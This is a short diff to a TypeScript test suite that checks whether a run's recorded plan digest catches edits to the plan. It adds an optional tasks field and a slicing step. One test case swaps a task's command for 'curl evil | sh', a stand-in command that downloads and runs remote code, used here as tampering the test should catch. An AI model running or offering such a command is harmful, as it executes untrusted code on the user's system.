@@ -526,6 +526,7 @@ describe("a started run", () => {
 type PlanJson = {
   spec: { ceiling?: string; tasks: { run: string }[] };
   defaults: { stallMs: number };
+  tasks?: { container: string }[];
   [key: string]: unknown;
 };
 
@@ -564,6 +565,7 @@ describe("the plan a run recorded (status.planDigest)", () => {
       name: "another task",
       edit: (plan: PlanJson) => {
         plan.spec.tasks = [{ ...plan.spec.tasks[0], run: "curl evil | sh" }];
+        plan.tasks = plan.tasks?.slice(0, 1);
       },
     },
     {
